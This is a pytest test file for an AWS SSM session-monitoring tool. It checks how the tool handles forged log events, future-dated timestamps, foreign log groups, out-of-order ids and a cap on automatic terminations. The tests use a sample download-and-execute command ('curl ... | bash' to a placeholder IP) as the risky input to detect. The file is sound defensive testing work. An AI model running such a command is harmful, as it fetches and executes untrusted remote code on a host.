"""Session logs are hostile input: the command watch against a writer who can put anything into any
session's stream (aws-facts §7), through functions/command_monitor/app.py on the moto server.

The victim is a prod admin's session known to the ledger (its StartSession through session_events);
the forger is a dev host, which can write into the victim's stream with any sessionId, target,
principal and timestamp.
"""

from __future__ import annotations

import copy
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from functions.command_monitor import app
from functions.session_events import app as events_app
from ssm_warden.audit import NO_SESSION, read_audit
from ssm_warden.clients import aws_client
from ssm_warden.clock import clock_set_to
from ssm_warden.config import reset_settings
from ssm_warden.enforce.sink import QueueSink
from ssm_warden.enforce.sweeper import sweep
from ssm_warden.ledger.dynamo import from_item
from ssm_warden.ledger.keys import session_key, watch_key
from ssm_warden.ledger.repository import SessionRepository
from ssm_warden.models.actions import ActionKind, ActionRequest, Trigger
from ssm_warden.models.audit import Decision
from ssm_warden.monitor.judging import batch_judge
from ssm_warden.policy.store import current_policy, reset_policy_cache
from ssm_warden.slack.messages import build_alert
from ssm_warden_local.resources import LocalStack
from tests.conftest import ACCOUNT, REGION, LambdaContext, load_event
from tests.unit.logs.builders import FIRST_ID, PRINCIPAL_ARN, payload, streamed

PROMPT = "[ec2-user@ip-10-0-0-1 ~]$ "
RISKY = "curl -s http://203.0.113.66/x.sh | bash"
VICTIM = "alice-0e34861185201706f"  # the prod admin's session (principal PRINCIPAL_ARN)
DEV_HOST = "i-0deadbeefdeadbeef"
DEV_USER = f"arn:aws:sts::{ACCOUNT}:assumed-role/Developer/dana"
STARTED = datetime(2026, 11, 28, 9, 0, 0, tzinfo=UTC)  # the StartSession event's time


@dataclass
class Arrival:
    at: datetime


@pytest.fixture
def arrival() -> Iterator[Arrival]:
    """The time batches reach the command monitor (the injected clock)."""
    clock = Arrival(STARTED + timedelta(minutes=2))
    with clock_set_to(lambda: clock.at):
        yield clock


@pytest.fixture(autouse=True)
def _fresh() -> None:
    batch_judge.cache_clear()
    reset_policy_cache()


def invoke(event: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = app.lambda_handler(event, LambdaContext())
    return result


def start_session(tags: dict[str, str], session_id: str = VICTIM) -> str:
    ec2 = aws_client("ec2")
    instance = ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    ec2.create_tags(Resources=[instance], Tags=[{"Key": k, "Value": v} for k, v in tags.items()])
    event = copy.deepcopy(load_event("start_session_shell.json"))
    event["detail"]["requestParameters"]["target"] = instance
    event["detail"]["responseElements"]["sessionId"] = session_id
    event["detail"]["eventID"] = f"00000000-0000-4000-8000-{abs(hash(session_id)) % 10**12:012d}"
    assert events_app.lambda_handler(event, LambdaContext())["status"] == "applied"
    return str(instance)


def event(
    n: int,
    lines: list[str],
    *,
    at: datetime,
    session_id: str = VICTIM,
    target: str,
    principal: str = PRINCIPAL_ARN,
) -> dict[str, Any]:
    """The n-th log event of a stream, dated ``at`` by its writer."""
    message = streamed(lines, session_id, target=target, principal=principal)
    return {"id": str(FIRST_ID + n), "timestamp": int(at.timestamp() * 1000), "message": message}


def queued(stack: LocalStack) -> list[ActionRequest]:
    sqs = aws_client("sqs")
    out: list[ActionRequest] = []
    while True:
        messages = sqs.receive_message(
            QueueUrl=stack.queues["ActionQueue"], MaxNumberOfMessages=10, WaitTimeSeconds=0
        ).get("Messages", [])
        if not messages:
            return out
        for message in messages:
            out.append(ActionRequest.model_validate_json(message["Body"]))
            sqs.delete_message(QueueUrl=stack.queues["ActionQueue"], ReceiptHandle=message["ReceiptHandle"])


def item(stack: LocalStack, session_id: str = VICTIM) -> dict[str, Any]:
    response = aws_client("dynamodb").get_item(
        TableName=stack.tables["SessionsTable"], Key={"pk": {"S": session_key(ACCOUNT, REGION, session_id)}}
    )
    return from_item(response["Item"]) if "Item" in response else {}


def watch(stack: LocalStack, session_id: str = VICTIM) -> dict[str, Any]:
    response = aws_client("dynamodb").get_item(
        TableName=stack.tables["SessionsTable"], Key={"pk": {"S": watch_key(ACCOUNT, REGION, session_id)}}
    )
    return from_item(response["Item"]) if "Item" in response else {}


def terminations_of(actions: list[ActionRequest], session_id: str) -> list[ActionRequest]:
    return [
        a
        for a in actions
        if a.kind is ActionKind.TERMINATE and a.session and a.session.session_id == session_id
    ]


def has_buttons(action: ActionRequest) -> bool:
    message = build_alert(action, "alert_only", interactive=True)
    return any(block.get("type") == "actions" for block in message.blocks)


# -- 1. binding ---------------------------------------------------------------------------------------


def test_a_forged_event_from_a_dev_host_does_not_end_the_prod_admins_session(
    stack: LocalStack, arrival: Arrival
) -> None:
    victim_target = start_session({"Environment": "prod"})
    # Given a dev host writing a download-and-execute line into the prod admin's stream, claiming
    # the admin's session id but its own target and principal
    forged = event(0, [f"sh-4.2$ {RISKY}"], at=arrival.at, target=DEV_HOST, principal=DEV_USER)
    result = invoke(payload([forged], stream=VICTIM))
    # Then the victim lives: nothing terminates it, no finding is recorded against it
    actions = queued(stack)
    assert terminations_of(actions, VICTIM) == []
    assert result["forged_events"] == 1 and result["commands"] == 0
    assert not [r for r in read_audit(VICTIM) if r.decision is Decision.FINDING]
    assert item(stack).get("findings_seen", 0) == 0
    # And one critical tamper alert says so, on its own (not in the victim's thread), without buttons
    (alert,) = actions
    assert alert.trigger is Trigger.TAMPER and alert.severity.value == "critical"
    assert alert.rule_or_limit == "tamper.log_claim_mismatch"
    assert alert.session is not None and alert.session.session_id == NO_SESSION
    assert alert.claimed is not None and alert.claimed.target_id == DEV_HOST
    assert "target.id" in alert.why and "userIdentity.arn" in alert.why
    assert not has_buttons(alert)
    # And the forged line did not count as the victim's output (it cannot keep a session alive)
    assert "last_output_at" not in item(stack)
    # And the victim's own events beside it are still judged as the victim's
    arrival.at += timedelta(seconds=30)
    real = event(1, [f"{PROMPT}{RISKY}"], at=arrival.at, target=victim_target)
    invoke(payload([real], stream=VICTIM))
    assert len(terminations_of(queued(stack), VICTIM)) == 1
    assert victim_target != DEV_HOST


def test_forged_events_are_reported_once_per_stream_and_window(stack: LocalStack, arrival: Arrival) -> None:
    start_session({"Environment": "prod"})
    # Given forged batches into the same stream a minute apart, then one 20 minutes later
    ids = []
    for n, later in enumerate((timedelta(0), timedelta(minutes=1), timedelta(minutes=20))):
        arrival.at = STARTED + timedelta(minutes=1) + later
        forged = event(n, [f"sh-4.2$ {RISKY}"], at=arrival.at, target=DEV_HOST, principal=DEV_USER)
        invoke(payload([forged], stream=VICTIM))
        ids.extend(a.action_id for a in queued(stack))
    # Then the alerts of one 15-minute window share an action id (the executor posts it once)
    assert len(ids) == 3
    assert ids[0] == ids[1] != ids[2]


def test_an_event_that_names_another_session_than_its_stream_is_refused(
    stack: LocalStack, arrival: Arrival
) -> None:
    victim_target = start_session({"Environment": "prod"})
    # Given an event in the victim's stream whose own sessionId is someone else's
    forged = event(
        0, [f"sh-4.2$ {RISKY}"], at=arrival.at, session_id="bob-0123456789abcdef0", target=victim_target
    )
    result = invoke(payload([forged], stream=VICTIM))
    assert result["forged_events"] == 1
    assert terminations_of(queued(stack), VICTIM) == []


def test_a_made_up_stream_claiming_an_org_admin_gets_no_termination_and_no_button(
    stack: LocalStack, arrival: Arrival
) -> None:
    # Given a stream for a session id nobody started, claiming to be an OrgAdmin
    fake = "OrgAdmin-0a1b2c3d4e5f60718"
    admin = f"arn:aws:sts::{ACCOUNT}:assumed-role/OrgAdmin/boss"
    line = event(0, [f"sh-4.2$ {RISKY}"], at=arrival.at, session_id=fake, target=DEV_HOST, principal=admin)
    result = invoke(payload([line], stream=fake))
    # Then at most an unverified alert: not a termination, no Terminate button, the identity shown as
    # claimed (in code, under an UNVERIFIED label), not as who did it
    assert result["standing"] == "unverified"
    (alert,) = queued(stack)
    assert alert.kind is ActionKind.ALERT
    assert alert.session is not None and alert.session.session_id == NO_SESSION
    assert alert.claimed is not None and alert.claimed.principal_arn == admin
    assert not has_buttons(alert)
    text = str(build_alert(alert, "alert_only", interactive=True).blocks)
    assert "Claimed principal (UNVERIFIED)" in text and f"`{admin}`" in text
    assert "*Who*" not in text


def test_plain_text_transcripts_are_judged_only_for_a_session_the_ledger_knows(
    stack: LocalStack, arrival: Arrival
) -> None:
    # Given an end-of-session transcript (no embedded JSON) in a stream the ledger does not know
    chunk = {
        "id": str(FIRST_ID),
        "timestamp": int(arrival.at.timestamp() * 1000),
        "message": f"sh-4.2$ {RISKY}\n",
    }
    invoke(payload([chunk], stream="nobody-0123456789abcdef0"))
    (alert,) = queued(stack)
    assert alert.kind is ActionKind.ALERT and alert.claimed is not None
    # And the same in a known prod session's stream: judged as the session's own
    start_session({"Environment": "prod"})
    invoke(payload([chunk], stream=VICTIM))
    assert len(terminations_of(queued(stack), VICTIM)) == 1


def test_a_foreign_log_group_is_not_a_session_log(stack: LocalStack, arrival: Arrival) -> None:
    victim_target = start_session({"Environment": "prod"})
    # Given a payload from another log group, naming the victim's stream with matching claims
    real_looking = event(0, [f"{PROMPT}{RISKY}"], at=arrival.at, target=victim_target)
    result = invoke(payload([real_looking], stream=VICTIM, log_group="/app/anything"))
    # Then it is reported, and judged against no one
    assert result["status"] == "not_a_session_log"
    (alert,) = queued(stack)
    assert alert.kind is ActionKind.ALERT and alert.rule_or_limit == "tamper.log_group_not_a_session_log"
    assert alert.session is not None and alert.session.session_id == NO_SESSION
    assert "command_watch" not in item(stack) and "commands_seen" not in item(stack)
    assert read_audit(VICTIM) == []


def test_organisation_mode_knows_each_members_registered_group(
    stack: LocalStack, arrival: Arrival, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MEMBER_SESSION_LOG_GROUPS", "111111111111=/member/sessions")
    reset_settings()
    line = event(0, ["sh-4.2$ id"], at=arrival.at, session_id="m-0123456789abcdef0", target=DEV_HOST)
    # The member's own group is a session log; the governance account's default name is not, there
    ok = invoke(
        payload([line], stream="m-0123456789abcdef0", owner="111111111111", log_group="/member/sessions")
    )
    assert ok["status"] == "processed"
    other = invoke(payload([line], stream="m-0123456789abcdef0", owner="111111111111"))
    assert other["status"] == "not_a_session_log"


# -- 2. time from arrival ----------------------------------------------------------------------------


@pytest.mark.parametrize("writer", ["the session itself", "another host"])
def test_a_future_dated_event_blinds_nothing(stack: LocalStack, arrival: Arrival, writer: str) -> None:
    victim_target = start_session({"Environment": "prod"})
    # Given an event dated two hours ahead, written in the session (its own claims, as a forger who
    # knows the session's exact id, target and principal would write it too), or by another host
    own = writer == "the session itself"
    claims: dict[str, Any] = {"target": victim_target} if own else {"target": DEV_HOST, "principal": DEV_USER}
    future = event(5, [f"{PROMPT}uptime"], at=arrival.at + timedelta(hours=2), **claims)
    first = invoke(payload([future], stream=VICTIM))
    # Then it is reported: as future-dated (and still judged) in its own stream, as forged otherwise
    (alert,) = queued(stack)
    if own:
        assert first["future_events"] == 1 and first["commands"] == 1
        assert alert.rule_or_limit == "tamper.log_event_future_dated"
        # and the session's clock is the arrival, not the writer's date
        assert item(stack)["last_output_at"] == "2026-11-28T09:02:00Z"
    else:
        assert first["forged_events"] == 1
        assert alert.rule_or_limit == "tamper.log_claim_mismatch"
        assert "last_output_at" not in item(stack)
    assert alert.kind is ActionKind.ALERT
    # And later real events (with lower ids: ids sort by timestamp) are judged, not skipped
    arrival.at += timedelta(seconds=20)
    later = invoke(
        payload([event(1, [f"{PROMPT}{RISKY}"], at=arrival.at, target=victim_target)], stream=VICTIM)
    )
    assert later["status"] == "processed" and later["commands"] == 1
    assert len(terminations_of(queued(stack), VICTIM)) == 1
    # (the first output counted is the arrival of the first event the session owns)
    assert item(stack)["last_output_at"] == ("2026-11-28T09:02:00Z" if own else "2026-11-28T09:02:20Z")


def test_after_a_future_dated_event_the_idle_limit_still_ends_the_session(
    stack: LocalStack, arrival: Arrival
) -> None:
    victim_target = start_session({"Environment": "prod"})
    # Given the session's last output arrives at 09:02, with an event dated two hours ahead
    invoke(
        payload(
            [event(0, [f"{PROMPT}ls"], at=arrival.at + timedelta(hours=2), target=victim_target)],
            stream=VICTIM,
        )
    )
    queued(stack)
    # When the sweeper runs past the prod idle limit (15 min) counted from the arrival
    report = sweep(
        now=arrival.at + timedelta(minutes=16),
        account=ACCOUNT,
        region=REGION,
        policy_state=current_policy(),
        sink=QueueSink(),
        time_left=lambda: 60.0,
        reconcile_with_service=False,
    )
    # Then the idle limit terminates it
    assert report is not None
    idle = [a for a in queued(stack) if a.trigger is Trigger.IDLE_LIMIT and a.kind is ActionKind.TERMINATE]
    assert [a.session.session_id for a in idle if a.session] == [VICTIM]


def test_an_older_batch_arriving_after_a_newer_one_is_judged_once(
    stack: LocalStack, arrival: Arrival
) -> None:
    victim_target = start_session({"Environment": "prod"})
    older = payload([event(0, [f"{PROMPT}{RISKY}"], at=arrival.at, target=victim_target)], stream=VICTIM)
    newer = payload(
        [event(10, [f"{PROMPT}id"], at=arrival.at + timedelta(seconds=1), target=victim_target)],
        stream=VICTIM,
    )
    # Given the newer batch processed first
    invoke(newer)
    assert queued(stack) == []
    # When the older one arrives late: it is judged (the old rule skipped it)
    assert invoke(older)["status"] == "processed"
    assert len(terminations_of(queued(stack), VICTIM)) == 1
    # And when either is redelivered, nothing is judged or counted twice
    assert invoke(older)["status"] == "duplicate"
    assert invoke(newer)["status"] == "duplicate"
    assert queued(stack) == []
    assert watch(stack)["c"] == 2  # what the session item shows at its next flush


def test_event_ids_are_compared_as_integers(stack: LocalStack, arrival: Arrival) -> None:
    victim_target = start_session({"Environment": "prod"})
    at_ms = int(arrival.at.timestamp() * 1000)
    # Given a command split across events 9 and 10, delivered out of order, id 10 written with
    # leading zeros (as text, "0010" < "9")
    events = [
        {"id": "0010", "timestamp": at_ms, "message": streamed(["> | bash"], VICTIM, target=victim_target)},
        {
            "id": "9",
            "timestamp": at_ms,
            "message": streamed(
                [f"{PROMPT}curl -s http://203.0.113.66/x.sh \\"], VICTIM, target=victim_target
            ),
        },
    ]
    result = invoke(payload(events, stream=VICTIM))
    # Then they are put in numeric order: the joined command is judged
    assert result["commands"] == 1
    (action,) = queued(stack)
    assert action.kind is ActionKind.TERMINATE
    # And the same batch with the ids written without zeros is the same batch (a redelivery)
    events[0]["id"] = "10"
    assert invoke(payload(events, stream=VICTIM))["status"] == "duplicate"


# -- 3. the termination cap --------------------------------------------------------------------------


def test_terminations_driven_by_logs_are_capped_per_minute_across_sessions(
    stack: LocalStack, arrival: Arrival, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LOG_TERMINATIONS_PER_MINUTE", "2")
    reset_settings()
    # Given three prod sessions whose logs show a risky command within one minute
    sessions = [f"alice-{n:017x}" for n in range(3)]
    targets = [start_session({"Environment": "prod"}, session_id=s) for s in sessions]
    results = []
    for n, (session_id, target) in enumerate(zip(sessions, targets, strict=True)):
        arrival.at = STARTED + timedelta(minutes=3, seconds=10 * n)
        line = event(0, [f"{PROMPT}{RISKY}"], at=arrival.at, session_id=session_id, target=target)
        results.append(invoke(payload([line], stream=session_id)))
    actions = [a for a in queued(stack) if a.trigger is Trigger.FINDING]
    # Then two are terminated and the third is an alert a person can act on (Terminate button)
    assert sorted(a.kind.value for a in actions) == ["alert", "terminate", "terminate"]
    (held,) = [a for a in actions if a.kind is ActionKind.ALERT]
    assert "Not terminated automatically" in held.why
    assert has_buttons(held)
    assert [r["terminations_held"] for r in results] == [0, 0, 1]
    # And the next minute has its own slots
    arrival.at = STARTED + timedelta(minutes=4, seconds=5)
    line = event(1, [f"{PROMPT}{RISKY} # again"], at=arrival.at, session_id=sessions[2], target=targets[2])
    invoke(payload([line], stream=sessions[2]))
    assert [a.kind for a in queued(stack) if a.trigger is Trigger.FINDING] == [ActionKind.TERMINATE]


def test_a_retried_termination_takes_no_second_slot(stack: LocalStack) -> None:
    repo = SessionRepository()
    minute = STARTED
    assert repo.claim_termination_slot(ACCOUNT, REGION, minute, "action-1", 1)
    assert repo.claim_termination_slot(ACCOUNT, REGION, minute, "action-1", 1)  # the same action again
    assert not repo.claim_termination_slot(ACCOUNT, REGION, minute, "action-2", 1)
    assert repo.claim_termination_slot(ACCOUNT, REGION, minute + timedelta(minutes=1), "action-2", 1)
    assert not repo.claim_termination_slot(ACCOUNT, REGION, minute, "action-3", 0)
